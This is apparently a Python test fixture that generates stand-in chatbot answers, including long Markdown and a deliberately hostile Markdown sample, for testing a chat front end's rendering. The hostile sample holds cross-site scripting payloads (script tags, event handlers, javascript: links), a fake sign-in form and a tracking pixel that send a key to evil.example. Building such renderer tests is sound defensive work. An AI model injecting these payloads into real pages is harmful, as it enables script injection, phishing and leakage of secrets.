"""Answers in words: the default one, long Markdown, hostile Markdown. Same question, same answer."""

import re
import zlib
from collections.abc import Iterator

from tests.standin.model import Model
from tests.standin.prompt import Prompt, SentImage

TOKEN = re.compile(r"\s*(?:\w{1,7}|[^\w\s]{1,3})|\s+")

CODE = """\
Here is the shape of it in code:

```python
from collections import Counter


def most_common_words(text: str, n: int = 3) -> list[tuple[str, int]]:
    words = (word.strip(".,!?").lower() for word in text.split())
    return Counter(words).most_common(n)


print(most_common_words("the cat and the hat"))  # [('the', 2), ...]
```
"""
LIST = """\
Three things to keep in mind:

1. **Start small.** The first version only has to *work*.
2. **Measure** before you change anything; guesses are wrong more often than not.
3. Write down *why*, since `what` can be read from the result:
   - for the next reader,
   - and for yourself in a year.
"""
TABLE = """\
Side by side:

| Option | Cost | When to take it |
|:-------|-----:|:----------------|
| Simple | $0.10 | you want an answer today |
| Thorough | $1.20 | mistakes would be expensive |
| Neither | $0.00 | nobody has asked for it yet |
"""
QUOTE = """\
As the saying goes:

> If you bring a dish, everybody eats.

That holds for software as well, and it costs less than it seems: $1 + 1 = 2$ guests are enough to begin.
"""
SECTIONS = (CODE, LIST, TABLE, QUOTE)

HOSTILE = """\
<script>alert("script")</script>
<img src=x onerror="alert('img')">
<svg onload=alert('svg')></svg>
<iframe srcdoc="<script>alert('iframe')</script>"></iframe>
<style>body { display: none }</style>
<form action="https://evil.example/"><input name="key"><button>Sign in</button></form>
<a href="javascript:alert('a')">html link</a>
<div id="composer" hx-get="https://evil.example/" hx-trigger="load" onclick="alert('div')">hx</div>

[link](javascript:alert('link')) [data](data:text/html;base64,PHNjcmlwdD4=) [vb](vbscript:msgbox(1))
![tracking pixel](https://evil.example/pixel.png?key=secret)
[reference]: javascript:alert('reference)

```html"><script>alert('fence')</script>
</code></pre><script>alert('code')</script>
```

`</code><script>alert('inline')</script>` and $\\href{javascript:alert('math')}{x}$ and <b>bold & "quoted"</b>

data: {"error": "this is text"}

event: done

\u2028 \u2029 \u202eright to left\u202c \0 end
"""


def tokens(text: str) -> list[str]:
    """Pieces as a model would send them: `"".join(tokens(text)) == text`."""
    return TOKEN.findall(text)


def numbered(count: int) -> list[str]:
    """Pieces that nobody can mistake for each other."""
    return [f"{number} " for number in range(1, count + 1)]


def default_answer(prompt: Prompt, model: Model) -> str:
    """A helpful-looking answer that shows what arrived: the question, the images, how long the chat is."""
    question = prompt.question
    parts = [_opening(question.text)]
    parts += [_description(number, image) for number, image in enumerate(question.images, start=1)]
    seed = zlib.crc32(question.text.encode())
    parts.append(SECTIONS[seed % len(SECTIONS)])
    if seed % 3 == 0:
        parts.append(SECTIONS[(seed + 1) % len(SECTIONS)])
    parts.append(_closing(prompt, model))
    return "\n".join(parts)


def markdown_document(kilobytes: float) -> str:
    """A long document with every kind of block in it."""
    sections, size = ["# A long document\n\n"], 0
    for number, part in enumerate(_endless_parts(), start=1):
        sections.append(f"## {number}. Part {number}\n\n{part}\n")
        size += len(sections[-1].encode())
        if size >= kilobytes * 1000:
            break
    return "".join(sections)


def _endless_parts() -> Iterator[str]:
    plain = (
        "Words come first here: a paragraph with **strong**, *soft* and ~~struck~~ text, a "
        "[link](https://example.org/), `inline code`, an umlaut (ü), an emoji 🍲, some 日本語, and enough of "
        "the rest to fill more than one line of the page, so that wrapping is seen as well.\n"
    )
    tasks = "- [x] done\n- [ ] still to do\n  - nested, *one level*\n    1. and two\n"
    formula = "$$\n\\int_0^1 x^2 \\, dx = \\frac{1}{3}\n$$\n"
    script = "```javascript\nexport const greet = (name) => `Hello, ${name}!`; // <b>not bold</b>\n```\n"
    notes = "A claim with a note,[^1] and another.[^2]\n\n[^1]: Where it is *from*.\n[^2]: See https://example.org/.\n"
    nested = "> A quotation\n>\n> - with a list\n> - in it\n>\n> ```\n> and code\n> ```\n"
    while True:
        yield from (
            plain + "\n" + notes,
            LIST,
            CODE,
            TABLE,
            plain + tasks,
            nested,
            formula,
            plain + script,
            QUOTE,
            "---\n",
        )


def _opening(text: str) -> str:
    first_line = text.strip().split("\n")[0]
    if not first_line:
        return "You sent no words, so let me go by the rest.\n"
    quoted = first_line if len(first_line) <= 200 else first_line[:199] + "…"
    return f"You asked:\n\n> {quoted}\n\nThat is a good question. Here is what I would say.\n"


def _description(number: int, image: SentImage) -> str:
    if not image.width:
        return f"**Image {number}** is an {image.media_type}, which I did not open.\n"
    kind = image.media_type.removeprefix("image/").upper()
    form = "square" if image.width == image.height else "wide" if image.width > image.height else "tall"
    return f"**Image {number}** is a {form} {kind} of {image.width} × {image.height} pixels ({image.bytes:,} bytes).\n"


def _closing(prompt: Prompt, model: Model) -> str:
    said = sum(turn.role == "user" for turn in prompt.turns)
    so_far = "This was your first message" if said == 1 else f"This was message {said} of yours"
    return (
        f"{so_far} to {model.name}. The answer comes from a **stand-in for OpenRouter** on this machine: "
        "nothing left it, and nothing was charged. Write `help` to see what else it can do.\n"
    )
